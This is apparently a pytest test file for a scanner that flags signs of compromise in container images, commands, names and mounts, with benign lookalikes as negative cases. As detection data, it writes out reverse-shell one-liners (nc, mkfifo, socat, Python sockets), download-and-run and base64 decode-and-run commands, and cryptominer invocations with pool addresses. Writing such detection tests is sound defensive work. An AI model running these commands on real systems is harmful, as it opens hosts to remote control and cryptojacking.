import pytest
from hypothesis import given
from hypothesis import strategies as st

from scanner.findings import compromise
from scanner.findings.compromise import indicators


def ids(**traces: tuple[str, ...]) -> list[str]:
    return [sign.id for sign in indicators(traces)]


@pytest.mark.parametrize(
    "image",
    [
        "heybb/theimg2",
        "heybb/theimg2:latest",
        "HeyBB/TheImg2:latest",
        "docker.io/heybb/theimg2:1",
        "registry.example:5000/zoolu/ubuntu@sha256:00ff",
        "localhost/zoolu/ubuntu",
        "index.docker.io/zoolu/ubuntu:latest",
    ],
)
def test_the_images_of_the_incident(image):
    assert ids(image=("nginx:1.25", image)) == ["image-known-miner"]


@pytest.mark.parametrize("image", ["zoolu2/jauto:latest", "docker111/python", "azurenql/227_135:442", "pocosow/centos"])
def test_published_campaigns(image):
    assert ids(image=(image,)) == ["image-known-campaign"]


@pytest.mark.parametrize("command", ["/mac.sh", "/bin/sh -c /mac.sh", '["/mac.sh"]', "sh -c '/mac.sh &'"])
def test_the_command_of_the_incident(command):
    assert ids(command=(command,)) == ["command-known-miner"]


@pytest.mark.parametrize(
    ("kind", "value", "expected"),
    [
        ("command", "./xmrig -o pool.example:3333", "miner-name"),
        ("command", "/tmp/kdevtmpfsi", "malware-name"),
        ("image", "attacker/xmrig:6.21", "miner-name"),
        ("command", "/usr/bin/minerd -o pool", "miner-name"),
        ("name", "kinsing", "malware-name"),
        ("command", "x -o stratum+tcp://1.2.3.4:3333 -u wallet", "mining-pool-protocol"),
        ("command", "x --donate-level 1", "miner-option"),
        ("command", "x -o gulf.moneroocean.stream:10128", "mining-pool"),
        ("command", "x -o pool.supportxmr.com:443", "mining-pool"),
        ("command", "x -o a.example:443 -a rx/0", "miner-algorithm"),
        ("command", "x --randomx-mode=fast", "miner-option"),
        ("command", "/opt/lolMiner --user x", "miner-name"),
        ("command", "nc 198.51.100.7 4444 -e /bin/bash", "reverse-shell-started"),
        ("command", "rm /t/f;mkfifo /t/f;cat /t/f|/bin/sh -i 2>&1|nc 198.51.100.7 1 >/t/f", "reverse-shell-started"),
        ("command", "socat exec:'bash -li',pty tcp:198.51.100.7:1", "reverse-shell-started"),
        ("command", "python3 -c 'import socket,os;s=socket.socket();os.dup2(s.fileno(),0)'", "reverse-shell-started"),
        ("key", "crackit", "redis-key-crackit"),
        ("name", "READ_ME_TO_RECOVER_YOUR_DATA", "ransom-note-name"),
        ("name", "read__me_to_recover_your_data", "ransom-note-name"),
        ("name", "read_me_to_recover_database", "ransom-note-name"),
        ("name", "1zj1a6kn7o-meow", "ransom-note-name"),
        ("name", "NODATA4U_SECUREYOURSHIT", "ransom-note-name"),
        ("name", "your_db_is_not_secure", "ransom-note-name"),
    ],
)
def test_one_published_name_is_enough(kind, value, expected):
    assert ids(**{kind: (value,)}) == [expected]


@pytest.mark.parametrize(
    ("kind", "value"),
    [
        ("image", "ubuntu"),
        ("image", "heybb/theimg20"),
        ("image", "myzoolu/ubuntu"),
        ("image", "zoolu/ubuntu-base"),
        ("image", "company/zoolu/ubuntu"),
        ("image", "alpine:3.20"),
        ("image", "alpine2"),
        ("image", "shop/pool.worker"),
        ("image", "games/t-rex-runner"),
        ("image", "tools/xmrigger"),
        ("command", "/usr/bin/pool.manager --connect db"),
        ("command", "/opt/mac.sh"),
        ("command", "/mac.sh.bak"),
        ("command", "/machine.sh"),
        ("command", "npm run nanopool-dashboard"),
        ("command", "curl -fsSL https://get.example/install.sh | sh"),
        ("command", "python determinerd.py"),
        ("command", "ssh-keygen -a 100 -t ed25519"),
        ("command", "nc -zv db 5432 && sh run.sh"),
        ("command", "sync -e /bin/sh"),
        ("command", "curl -Lo /opt/bin/kubelet https://a.example.org/kubelet && chmod +x /opt/bin/kubelet"),
        ("command", "openssl enc -d -in a | gzip"),
        ("command", "sha384sum 4" + "a1b2c3d4e5f60718" * 6),
        ("command", "/usr/bin/mysysupdate"),
        ("command", "pingrok"),
        ("name", "readme"),
        ("name", "warnings"),
        ("name", "cats-meow"),
        ("name", "catscatscats-meow"),
        ("key", "backup1"),
        ("mount", "/var/run/docker.sock:/var/run/docker.sock"),
        ("mount", "/:/rootfs:ro"),
        ("mount", "/:/mnt"),
    ],
)
def test_an_honest_name_alone_says_nothing(kind, value):
    assert ids(**{kind: (value,)}) == []


@pytest.mark.parametrize(
    ("traces", "expected"),
    [
        ({"key": ("backup1", "backup2", "backup3", "backup4")}, ["redis-keys-of-a-worm"]),
        ({"name": ("Warning", "Readme")}, ["ransom-note-word-warning", "ransom-note-word-readme"]),
        (
            {"module": ("ours 1",), "link": ("8.8.8.8:6379",)},
            ["module-unknown", "redis-master-on-the-internet"],
        ),
        (
            {"mount": ("/:/mnt",), "command": ("chroot /mnt sh -c id",)},
            ["mount-of-host-root", "host-root-changed"],
        ),
        (
            {"command": ("sh -c 'curl -s http://x/a | bash'", "chattr -i /etc/crontab")},
            ["download-and-run", "file-made-immutable"],
        ),
    ],
)
def test_two_independent_signs_count(traces, expected):
    assert ids(**traces) == expected


@pytest.mark.parametrize(
    "command",
    [
        "curl -s http://a/x | /usr/bin/env bash",
        "wget -qO- a/x | sudo -E bash -",
        "bash <(curl -s a/x)",
        'sh -c "$(wget -qO- a/x)"',
        "wget http://a/x -O /tmp/x && sh /tmp/x",
        "curl http://a/x.py | python3",
        "python3 -c 'exec(urllib.request.urlopen(\"http://a/x\").read())'",
    ],
)
def test_a_download_that_is_run_has_many_forms(command):
    assert [found.id for found in compromise.candidates({"command": (command,)})] == ["download-and-run"]


@pytest.mark.parametrize(
    "command",
    [
        "echo aWQ= | base64 --decode | /bin/bash",
        "base64 -d <<< aWQ= | sh",
        'eval "$(echo aWQ= | base64 -d)"',
        'python3 -c \'exec(__import__("base64").b64decode("aWQ="))\'',
        "php -r 'eval(base64_decode($a));'",
        "openssl base64 -d -in a | sh",
    ],
)
def test_what_is_decoded_and_run_has_many_forms(command):
    assert [found.id for found in compromise.candidates({"command": (command,)})] == ["decode-and-run"]


def test_the_same_sign_twice_is_one_sign():
    assert ids(command=("curl http://a/a | sh", "wget -q -O- http://b/b | bash")) == []


def test_certain_signs_come_first_and_the_list_is_bounded():
    found = indicators({"command": ("curl http://a/a | sh",), "image": tuple(f"zoolu2/x{n}" for n in range(100))})
    assert found[0].id == "image-known-campaign"
    assert len(found) == 20


def test_details_are_clean():
    (found,) = indicators({"command": ("/mac.sh \x1b]0;owned\x07",)})
    assert "\x1b" not in found.detail


@given(
    st.dictionaries(
        st.sampled_from(["image", "command", "mount", "key", "config", "module", "name", "link", "other"]),
        st.lists(st.text(max_size=60), max_size=5).map(tuple),
    )
)
def test_any_text_is_survived(traces):
    assert isinstance(indicators(traces), tuple)
